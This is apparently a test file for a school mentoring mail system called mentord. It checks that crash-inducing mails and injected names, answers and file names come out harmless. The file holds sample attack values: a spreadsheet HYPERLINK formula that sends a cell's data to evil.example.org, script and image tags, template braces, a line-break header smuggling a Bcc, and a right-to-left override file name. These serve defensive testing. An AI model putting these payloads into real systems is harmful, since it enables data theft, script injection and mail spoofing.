#!/usr/bin/python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""What strangers write goes through the whole house and comes out harmless: mails that kill their reader, and names, answers and
file names that would be a header, a template, a script or a formula wherever they are shown. Prints TAP."""
import contextlib
import csv
import html.parser
import io
import os
import re
import shutil
import tempfile

import harness
from harness import BUILD, TRACKER, check, fill, one, reply, same, to, write

ASKED = "2026-10-08T12:00:00+01:00"
RETURNED = "2026-10-09T10:15:00+01:00"
READ = "2026-10-09T10:20:00+01:00"
LATER = "2026-10-12T09:00:00+01:00"
AMY, BEN, CHLOE = (name + "@example.sch.uk" for name in ("amy.brown", "ben.clark", "chloe.davies"))
EVE = "eve.hale@example.sch.uk"

FORMULA = '=HYPERLINK("http://evil.example.org/?x="&A1,"open")'
SCRIPT = "<script>alert(1)</script><img src=http://evil.example.org/x.png>"
TEMPLATE = "{{{office}}} {{> layout}} {{#people}}x{{/people}}"
HEADER = "Eve\r\nBcc: victim@example.org\r\n\r\nSmuggled"
TURNED = "exe.\u202exslx"  # shown as if it ended in .xlsx
HOSTILE = (  # name, school: as the office's own list may hold them, typed by who knows whom
    ("=1+1 Eve <b>Hale</b> {{name}}", '@SUM(A1) "Quote" & <i>Primary</i> {{{school}}}'),
    ("-2+3 Eve\tHale <script>alert(1)</script>", "+44 Primary {{> layout}}"),
)


class Asked(harness.Site):
    """A site whose primary mentors were asked for their trackers."""

    def __enter__(self):
        self.requests = [mail for mail in self.once(ASKED) if mail.template == "tracker-request"]
        return self

    def request(self, address):
        return one(self.requests, address, "tracker-request")

    def cases(self):
        listed = self.json("review", "list", now=READ)
        return listed if isinstance(listed, list) else listed["cases"]


@contextlib.contextmanager
def mortal_reader():
    """mentord with a reader that dies of some messages, as both of its programs."""
    folder, program = tempfile.mkdtemp(prefix="mentord-mortal-"), harness.PROGRAM
    try:
        os.mkdir(os.path.join(folder, "src"))
        os.symlink(os.path.join(BUILD, "data"), os.path.join(folder, "data"))
        shutil.copy(program, os.path.join(folder, "src", "mentord"))
        for name in ("mentord-reader", "mentord-reader-whole"):
            shutil.copy(os.path.join(BUILD, "tests", "reader", "mortal-reader"), os.path.join(folder, "src", name))
        harness.PROGRAM = os.path.join(folder, "src", "mentord")
        yield
    finally:
        harness.PROGRAM = program
        shutil.rmtree(folder)


def returned(site, address, *headers):
    return reply(site.request(address), "Here it is.", [("t.docx", fill(site.request(address).attached(".docx"), TRACKER))], headers=headers)


def a_mail_that_kills_its_reader_is_one_case_and_nothing_else():
    with mortal_reader(), Asked() as site:
        site.deliver(returned(site, AMY), RETURNED)
        site.deliver(returned(site, BEN, ("X-Deadly", "crash")), RETURNED)
        site.deliver(returned(site, CHLOE), RETURNED)
        mails = site.once(READ)
        for address, state in ((AMY, "met"), (BEN, "open"), (CHLOE, "met")):
            same("the tracker of " + address, site.obligation(address, "tracker", READ)["state"], state)
        one(mails, AMY, "certificate")
        one(mails, CHLOE, "certificate")
        same("cases", [case["kind"] for case in site.cases()], ["unread"])
        same("messages", site.json("status", now=READ)["messages"].get("unread"), 1)
        check("the case says why", re.search("broke the reader|gave up", site.mentord("review", "show", str(site.cases()[0]["id"]), now=READ).out))
        same("all are moved", (site.inbox(), len(site.processed())), ([], 3))
        site.once(LATER)
        same("it is not tried for ever", len(site.cases()), 1)


def a_whole_box_of_them_ends_too():
    with mortal_reader(), Asked() as site:
        for number in range(30):
            site.deliver(write("stranger%d@example.org" % number, "x", "y", headers=[("X-Deadly", ("crash", "exit")[number % 2])]), RETURNED)
        site.deliver(returned(site, AMY), RETURNED)
        site.once(READ)
        same("the tracker", site.obligation(AMY, "tracker", READ)["state"], "met")
        same("cases", sorted({case["kind"] for case in site.cases()}), ["unread"])
        same("one each", len(site.cases()), 30)


# Injection

def headers_are_sound(mail, sent_to):
    head = re.split(rb"\r?\n\r?\n", mail.raw, maxsplit=1)[0]
    for line in re.split(rb"\r?\n", head):
        check("a header line of %s: %r" % (mail.template, line), re.match(rb"[A-Za-z0-9-]+:|[ \t]+\S", line))
        check("no bare carriage return: %r" % line, b"\r" not in line)
    same("Bcc of " + mail.template, mail.message.get_all("Bcc"), None)
    for name in ("To", "Cc", "From", "Subject"):
        check("one %s in %s" % (name, mail.template), len(mail.message.get_all(name, [])) <= 1)
    check("%s goes to %s alone: %s" % (mail.template, sent_to, mail.message["To"]), "victim" not in str(mail.message["To"]))


class Tags(html.parser.HTMLParser):
    """The elements of a page, and where its links lead under which words."""

    def __init__(self, page):
        super().__init__()
        self.names, self.links, self.words = set(), [], None
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        own = tag == "img" and str(dict(attrs).get("src")).startswith("cid:")  # a chart, which comes with the mail
        self.names.update(["a chart" if own else tag, *(name for name, _ in attrs if name.startswith("on"))])
        if tag == "a":
            self.links.append([dict(attrs).get("href") or "", ""])
            self.words = self.links[-1]

    def handle_data(self, data):
        if self.words:
            self.words[1] += data

    def handle_endtag(self, tag):
        if tag == "a":
            self.words = None


def markup_is_harmless(what, page):
    """Nothing that a stranger wrote is an element or a handler of events; what he wrote as a link says where it leads."""
    tags = Tags(page)
    check("%s has none of these: %s" % (what, sorted(tags.names)), not tags.names & {"script", "img", "b", "i", "iframe", "object"} and
          not [name for name in tags.names if name.startswith("on")])
    check("links of %s: %s" % (what, tags.links), all(link == words for link, words in tags.links if "evil" in link))


def nothing_is_expanded(what, text):
    check("the office's address is not put in: " + what, "office@example.ac.uk alert" not in text)
    check("braces stand as they were typed: " + what, "{{" in text)


def workbook_is_harmless(what, data):
    for sheet in harness.workbook(data):
        for row in sheet.iter_rows():
            for cell in row:
                check("%s: %s is no formula: %r" % (what, cell.coordinate, cell.value), cell.data_type != "f")


def csv_is_harmless(what, text):
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            check("%s: a cell that a spreadsheet computes: %r" % (what, cell), not cell.startswith(("=", "+", "-", "@", "\t", "\r")))


def pages(site):
    for path, _, names in os.walk(site.file("public")):
        for name in names:
            yield os.path.join(path, name)


def answers_of_strangers_come_out_as_text():
    values = dict(TRACKER, **{"Training I would find most useful": "%s %s %s" % (FORMULA, SCRIPT, TEMPLATE)})
    with Asked() as site:
        document = fill(site.request(AMY).attached(".docx"), values)
        message = reply(site.request(AMY), "Here. " + SCRIPT + TEMPLATE, [("=cmd|x<script>{{name}}" + TURNED + ".docx", document)],
                        name="=Amy {{name}} <script>")
        raw = message.as_bytes().replace(b"\nSubject: ", b"\nSubject: =?utf-8?q?Eve=0D=0ABcc:_victim@example.org?= ", 1)
        site.deliver(raw, RETURNED)
        mails = site.once(READ)
        receipt, digest = one(mails, AMY, "receipt"), one(mails, harness.PRIMARY, "digest")
        for mail in mails:
            headers_are_sound(mail, mail.to)
            markup_is_harmless(mail.template, mail.part("html"))
        check("the answer is read back as it was typed: " + receipt.text, FORMULA in receipt.text and SCRIPT in receipt.text)
        nothing_is_expanded("the receipt", receipt.text)
        workbook_is_harmless("the digest's workbook", digest.attached(".xlsx"))
        cells = [str(cell.value) for sheet in harness.workbook(digest.attached(".xlsx")) for row in sheet.iter_rows() for cell in row]
        check("the answer stands in it: %s" % cells, any(FORMULA in cell for cell in cells))
        for report in ("needs", "compliance"):
            csv_is_harmless(report, site.mentord("report", report, "--format", "csv", now=READ).out)
            markup_is_harmless(report, site.mentord("report", report, "--format", "html", now=READ).out)
            site.mentord("report", report, "--format", "xlsx", "--output", site.file("r.xlsx"), now=READ)
            workbook_is_harmless(report, harness.read_bytes(site.file("r.xlsx")))


def an_unreadable_file_is_named_harmlessly():
    with Asked() as site:
        name = "=cmd|x<script>alert(1)</script>{{name}}" + TURNED + ".docx"
        site.deliver(reply(site.request(AMY), "", [(name, b"PK\3\4 nothing")]), RETURNED)
        mails = site.once(READ) + site.once(LATER)
        check("she is told", to(mails, AMY))
        for mail in mails:
            headers_are_sound(mail, mail.to)
            markup_is_harmless(mail.template, mail.part("html"))
            check("nothing turns the text around in " + mail.template, "\u202e" not in mail.text)
        shown = site.mentord("review", "show", str(site.cases()[0]["id"]), now=LATER).out
        check("nor in the case, and no escape: %r" % shown, not re.search("[\u202a-\u202e\u2066-\u2069\x00-\x08\x0b-\x1f]", shown))


def names_of_the_roster_come_out_as_text():
    for name, school in HOSTILE:
        people = [(*person[:3], school, *person[4:]) if person[2] in ("lead-mentor", "mentor") else person for person in harness.PEOPLE]
        people.append((name, EVE, "mentor", school, "primary", "pgce", ""))
        with Asked(people=people) as site:
            request = site.request(EVE)
            site.deliver(reply(request, "Here.", [("t.docx", fill(request.attached(".docx"), TRACKER))]), RETURNED)
            mails = site.once(READ)
            certificate = one(mails, EVE, "certificate")
            for mail in site.requests + mails:
                headers_are_sound(mail, mail.to)
                markup_is_harmless(mail.template, mail.part("html"))
            words = " ".join(harness.pdf_text(certificate.attached(".pdf")).split())
            check("the certificate bears the name as it is: %s" % words, " ".join(name.split()) in words)
            workbook_is_harmless("the digest's workbook", one(mails, harness.PRIMARY, "digest").attached(".xlsx"))
            csv_is_harmless("compliance", site.mentord("report", "compliance", "--format", "csv", now=READ).out)
            markup_is_harmless("compliance", site.mentord("report", "compliance", "--format", "html", now=READ).out)
            for path in pages(site):
                if path.endswith(".html"):
                    markup_is_harmless(path, harness.read(path))
                elif path.endswith(".ics"):
                    check("lines of " + path, all(re.match(rb"[A-Z-]+[;:]|[ \t]|$", line)
                                                  for line in harness.read_bytes(path).split(b"\r\n")))


def a_name_with_line_breaks_makes_no_header():
    people = [*harness.PEOPLE, (HEADER, EVE, "mentor", "Oakfield\r\nBcc: victim@example.org", "primary", "pgce", "")]
    with harness.Site(people=()) as site:
        site.mentord("import", site.roster(people), now="2026-09-02T09:00:00+01:00", code=None)  # refused or cleaned
        for mail in site.once(ASKED):
            headers_are_sound(mail, mail.to)
        same("mails to the victim", to(site.sent(), "victim@example.org"), [])


harness.run([a_mail_that_kills_its_reader_is_one_case_and_nothing_else, a_whole_box_of_them_ends_too, answers_of_strangers_come_out_as_text,
             an_unreadable_file_is_named_harmlessly, names_of_the_roster_come_out_as_text, a_name_with_line_breaks_makes_no_header])
